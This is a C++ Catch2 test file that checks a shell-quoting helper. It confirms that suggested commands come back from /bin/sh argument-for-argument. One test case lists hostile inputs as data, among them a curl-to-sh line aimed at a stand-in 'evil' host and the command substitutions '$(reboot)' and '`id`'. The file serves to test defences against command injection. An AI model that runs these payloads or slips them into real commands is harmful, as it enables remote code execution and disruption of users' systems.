// Suggested commands are pasted into shells: each argument must come back exactly.
#include <catch2/catch.hpp>
#include <sys/wait.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "model/command_line.h"
#include "util/shell_quote.h"

using namespace initwatch;

namespace {

// What /bin/sh makes of `printf '%s\0' <line>`: the arguments it sees, NUL-separated.
std::string sh_arguments(const std::string& line) {
    int fds[2];
    REQUIRE(pipe(fds) == 0);
    const pid_t pid = fork();
    REQUIRE(pid >= 0);
    if (pid == 0) {
        dup2(fds[1], 1);
        close(fds[0]);
        close(fds[1]);
        const std::string script = "printf '%s\\0' " + line;
        execl("/bin/sh", "sh", "-c", script.c_str(), static_cast<char*>(nullptr));
        _exit(127);
    }
    close(fds[1]);
    std::string out;
    char buf[4096];
    ssize_t n;
    while ((n = read(fds[0], buf, sizeof(buf))) > 0) out.append(buf, static_cast<size_t>(n));
    close(fds[0]);
    int status = 0;
    waitpid(pid, &status, 0);
    CHECK(WIFEXITED(status));
    return out;
}

}  // namespace

TEST_CASE("plain arguments stay as they are, all others are single-quoted") {
    CHECK(util::shell_quote("/my-app/server.js") == "/my-app/server.js");
    CHECK(util::shell_quote("--port=8080") == "--port=8080");
    CHECK(util::shell_quote("") == "''");
    CHECK(util::shell_quote("a b") == "'a b'");
    CHECK(util::shell_quote("it's") == "'it'\\''s'");
    CHECK(util::shell_quote("*.js") == "'*.js'");
}

TEST_CASE("hostile arguments come back from sh exactly, each as one argument") {
    const std::vector<std::string> hostile = {
        "sleep", "3600;curl${IFS}-s${IFS}evil|sh", "$(reboot)", "`id`", "*", "?", "[a]", "~root",
        "a\tb", "line\nbreak", "", "'", "''\\'", "\\", "!", "#comment", "x&y", "a>b", "bad\xff\xfe",
        "--opt=\"q\"", "{a,b}", "%s"};
    const std::string line = model::shell_join(model::Argv(hostile));
    std::string expected;
    for (const auto& a : hostile) expected += a + std::string(1, '\0');
    CHECK(sh_arguments(line) == expected);
}
